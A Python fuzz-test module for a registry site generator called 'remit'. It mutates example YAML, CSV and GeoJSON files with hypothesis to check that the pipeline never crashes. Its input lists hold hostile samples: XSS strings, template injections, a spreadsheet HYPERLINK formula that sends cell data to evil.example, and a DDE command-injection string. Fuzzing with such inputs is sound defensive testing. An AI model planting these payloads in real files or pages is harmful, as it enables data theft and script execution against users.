"""Fuzzing the whole pipeline from the example registry: hypothesis mutates its top-level
files (hostile text, wrong types, duplicated and deleted entries, broken references, a
mutated CSV row; the cases in its subfolder are kept as they are) and every mutant either
fails ``remit check`` with located diagnostics or goes through the checks, the report,
every export and every page of the site; never a traceback. Whatever ``check`` accepts,
export and build accept too.

About a minute in CI: ``REMIT_FUZZ_EXAMPLES`` raises the number of mutants locally.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import os
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import ROOT, run_mkdocs
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from generator.checks.findings import run_checks
from generator.checks.report import report_output
from generator.cli import main
from generator.diagnostics import ERROR, format_diagnostics
from generator.directory import Directory
from generator.load.registry import load
from generator.publish.export import all_exports
from generator.site.render import render_site

TODAY = dt.date(2026, 11, 28)
EXAMPLES = int(os.environ.get("REMIT_FUZZ_EXAMPLES", "250"))
SOURCE = ROOT / "directory"

HOSTILE_TEXT = [
    "", " ", "x" * 400, "长" * 250, "a\x00b", "tab\there", "line\nbreak", "\x85next",
    "\u202eevil.exe", "zero\u200bwidth", "\ufeffbom", "lone \ud800 surrogate", "non\uffffchar",
    "<script>alert(1)</script>", "{{ 7*7 }}", "{% raw %}", "${x}", "[[matter:x]]",
    "| a | b |", "---", "]]>", "&amp;", "*emph* _u_", "javascript:alert(1)",
    'data:text/html,<b>x</b>', '=HYPERLINK("http://evil.example/?x="&A1,"x")', "-1+1",
    "+1+cmd|' /C calc'!A0", "＝1+1", "@SUM(1)", "index", "road-d3", "service-centre",
    "construction-investment", "streetlight-out", "2024-02-30", "0123", "12:30", "NO",
    "路灯不亮", "\n\n# heading\n", "https://example.org/a b", "mailto:x@example.org",
    "x@example.org", "0851-0000-0001", "in-progress", "accepted", "3d", "0d", "Point",
]
HOSTILE_OTHER: list[Any] = [
    None, 0, -1, 10**12, 1.5, 1e308, True, [], {}, ["a", "b"], {"x": 1},
    dt.date(2024, 1, 1), dt.date(1900, 1, 1), [[1, 2], [3, 4]],
    {"type": "Point", "coordinates": [200, 100]},
    {"type": "LineString", "coordinates": [[106.6, 26.6]]},
]
#: Text that is valid registry text but hostile to every output: markup, templates, formulas,
#: feed breakers, long names. Mutants made of these mostly pass check and test the outputs.
VALID_HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ 7*7 }}", "{% raw %}",
    "${x} #{x}", "| a | b |", "]]><x/>", "&amp; &#x27; &lt;", "*emph* _u_ `code`",
    "[link](javascript:alert(1))", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "-1+1",
    "+1+cmd|' /C calc'!A0", "＝1+1", "@SUM(1)", "'quoted", "\"dq\"", "back\\slash",
    "x" * 200, "长" * 200, "路灯不亮 D3路", "Corp.", "a\tb", "!!python/object", "--- ...",
    "{: onclick=alert(2)}", "<!-- c -->", "\\u0000", "%s %n", "0", "-", "+",
]
values = st.one_of(st.sampled_from(HOSTILE_TEXT), st.sampled_from(HOSTILE_OTHER),
                   st.text(max_size=12))


def _example_trees() -> dict[str, Any]:
    return {p.name: yaml.safe_load(p.read_text(encoding="utf-8"))
            for p in sorted(SOURCE.glob("*.yaml"))}


TREES = _example_trees()
CSV_ROWS = list(csv.reader(io.StringIO((SOURCE / "lamps.csv").read_text(encoding="utf-8-sig"))))
#: the files in the example's subfolders (its cases), written into every mutant as they are
#: (the articles refer to them)
AS_IS = {p.relative_to(SOURCE).as_posix(): p.read_bytes() for p in sorted(SOURCE.rglob("*"))
         if p.is_file() and p.parent != SOURCE}


def _slots(tree: Any, out: list[tuple[Any, Any]]) -> list[tuple[Any, Any]]:
    """Every (container, key or index) in the tree, containers included."""
    if isinstance(tree, dict):
        for k, v in tree.items():
            out.append((tree, k))
            _slots(v, out)
    elif isinstance(tree, list):
        for i, v in enumerate(tree):
            out.append((tree, i))
            _slots(v, out)
    return out


OPERATIONS = ("replace", "replace", "replace", "delete", "duplicate", "add-key")


GEOJSON_SOURCE = {"file": "hydrants.geojson", "type": "facility",
                  "columns": {"id": "code", "name": "label", "owner": "keeper"},
                  "set": {"owner": "park-operations"}}


def _geojson(draw: st.DrawFn) -> str:
    """A small GeoJSON inventory with hostile properties, written with JSON escapes
    (``"\\ud800"`` is how a lone surrogate arrives in a real file)."""
    features = []
    for i in range(draw(st.integers(1, 3))):
        props: dict[str, Any] = {"code": f"hydrant-{i}", "label": f"消防栓 {i}"}
        if draw(st.booleans()):
            props[draw(st.sampled_from(["code", "label", "keeper"]))] = draw(values)
        feature: dict[str, Any] = {"type": "Feature", "properties": props, "geometry": {
            "type": "Point", "coordinates": [106.62 + i / 1000, 26.60]}}
        if draw(st.booleans()):
            feature["geometry"] = draw(st.sampled_from(HOSTILE_OTHER))
        features.append(feature)
    return json.dumps({"type": "FeatureCollection", "features": features}, default=str)


ID_KEYS = {"id", "owner", "parent", "part_of", "by", "from", "to", "interim", "who", "type",
           "first_contact", "escalation", "handled_by", "duty", "arbiter", "lead", "file",
           "status", "kind", "visibility", "language", "after", "time_limit", "finding"}


def _mutable(trees: dict[str, Any], name: str) -> Any:
    """The tree of file ``name`` of a mutant, to change: a copy of the example's the first
    time (a file no operation touched stays the example's own object, see
    :func:`write_registry`)."""
    if trees[name] is TREES.get(name):
        trees[name] = copy.deepcopy(TREES[name])
    return trees[name]


@st.composite
def mutants(draw: st.DrawFn, gentle: bool = False) -> tuple[dict[str, Any], list[list[str]]]:
    """A mutant of the example registry. ``gentle`` ones only replace free text with
    valid but hostile text, so that most pass check and reach every output."""
    trees = dict(TREES)
    if gentle:
        for _ in range(draw(st.integers(1, 6))):
            name = draw(st.sampled_from(sorted(trees)))
            slots = [(p, k) for p, k in _slots(_mutable(trees, name), [])
                     if isinstance(p[k], str) and k not in ID_KEYS and isinstance(k, str)]
            parent, key = slots[draw(st.integers(0, len(slots) - 1))]
            parent[key] = draw(st.sampled_from(VALID_HOSTILE))
        return trees, [list(r) for r in CSV_ROWS]
    rows = [list(r) for r in CSV_ROWS]
    if draw(st.integers(0, 3)) == 0:
        _mutable(trees, "departments.yaml")["asset_sources"].append(dict(GEOJSON_SOURCE))
        trees["hydrants.geojson"] = _geojson(draw)
    for _ in range(draw(st.integers(1, 4))):
        if draw(st.integers(0, 5)) == 0:  # a cell of the lamp inventory
            r = draw(st.integers(1, len(rows) - 1))
            c = draw(st.integers(0, len(rows[r]) - 1))
            rows[r][c] = str(draw(st.sampled_from(HOSTILE_TEXT)))
            continue
        name = draw(st.sampled_from(sorted(n for n in trees if n.endswith(".yaml"))))
        slots = _slots(_mutable(trees, name), [])
        parent, key = slots[draw(st.integers(0, len(slots) - 1))]
        op = draw(st.sampled_from(OPERATIONS))
        if op == "replace":
            parent[key] = draw(values)
        elif op == "delete":
            del parent[key]
        elif op == "duplicate" and isinstance(parent, list):
            parent.append(copy.deepcopy(parent[key]))
        elif op == "add-key" and isinstance(parent[key], dict):
            parent[key][draw(st.sampled_from(["id", "name", "note", "owner", "x"]))] = \
                draw(values)
    return trees, rows


def _yaml(tree: Any) -> str:
    return yaml.safe_dump(tree, allow_unicode=True, sort_keys=False)


#: the example's files as :func:`write_registry` writes them, dumped once (PyYAML's emitter
#: is slow, and most mutants leave most files alone)
TEXTS = {name: _yaml(tree) for name, tree in TREES.items()}


def write_registry(folder: Path, trees: dict[str, Any], rows: list[list[str]]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, tree in trees.items():
        if name.endswith(".geojson"):
            text = tree
        elif tree is TREES.get(name):  # untouched by the mutant
            text = TEXTS[name]
        else:
            text = _yaml(tree)
        (folder / name).write_bytes(text.encode("utf-8", "surrogatepass"))
    for rel, data in AS_IS.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerows(rows)
    (folder / "lamps.csv").write_bytes(buf.getvalue().encode("utf-8", "surrogatepass"))


def run_pipeline(folder: Path) -> bool:
    """True when the registry was accepted (and then went through everything)."""
    reg, diags = load(folder)
    for fmt in ("text", "github", "json"):
        format_diagnostics(diags, fmt).encode("utf-8")  # printable anywhere
    if any(x.severity == ERROR for x in diags):
        for x in diags:
            assert x.file and x.message, x
        return False
    d = Directory(reg, today=TODAY)
    findings = run_checks(d, TODAY)
    for fmt in ("text", "json", "csv"):
        report_output(findings, fmt, reg.site.language, TODAY).encode("utf-8")
    for rel, data in all_exports(d).items():
        text = data.decode("utf-8")
        if rel.endswith((".json", ".geojson")):
            json.loads(text)
    for f in render_site(d, findings=findings):
        data = f.content.encode("utf-8") if isinstance(f.content, str) else f.content
        if f.path.endswith(".xml"):
            ET.fromstring(data)
    return True


FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow, HealthCheck.data_too_large])


def test_the_example_round_trips_clean(tmp_path: Path) -> None:
    """The starting point of every mutant is accepted: the fuzzing starts from green."""
    write_registry(tmp_path / "reg", copy.deepcopy(TREES), CSV_ROWS)
    assert run_pipeline(tmp_path / "reg")


@FUZZ
@given(st.one_of(mutants(), mutants(gentle=True)))
def test_mutated_registry_never_raises(tmp_path_factory: pytest.TempPathFactory,
                                       mutant: tuple[dict[str, Any], list[list[str]]]) -> None:
    folder = tmp_path_factory.mktemp("fuzz") / "reg"
    write_registry(folder, *mutant)
    accepted = run_pipeline(folder)
    event("accepted" if accepted else "refused by check")
    # the command line says the same, in every format, and never with a traceback
    rc = main(["check", "--today", TODAY.isoformat(), "--format", "json", str(folder)])
    assert rc == (0 if accepted else 1)
    shutil.rmtree(folder.parent)


@settings(FUZZ, max_examples=3)
@given(st.one_of(mutants(gentle=True), mutants()))
def test_accepted_mutants_build_with_mkdocs(tmp_path_factory: pytest.TempPathFactory,
                                            mutant: tuple[dict[str, Any], list[list[str]]],
                                            ) -> None:
    """A real ``mkdocs build`` of a few mutants: it fails only when check fails, and then
    with the check's lines, never a traceback."""
    tmp = tmp_path_factory.mktemp("fuzzsite")
    write_registry(tmp / "directory", *mutant)
    shutil.copy(ROOT / "mkdocs.yml", tmp / "mkdocs.yml")
    shutil.copytree(ROOT / "content", tmp / "content")
    reg, diags = load(tmp / "directory")
    ok = not any(x.severity == ERROR for x in diags)
    event("accepted" if ok else "refused by check")
    proc = run_mkdocs("build", "-q", "-f", str(tmp / "mkdocs.yml"), "-d", str(tmp / "site"),
                      cwd=tmp)
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert (proc.returncode == 0) == ok, proc.stderr[-3000:]
    shutil.rmtree(tmp)
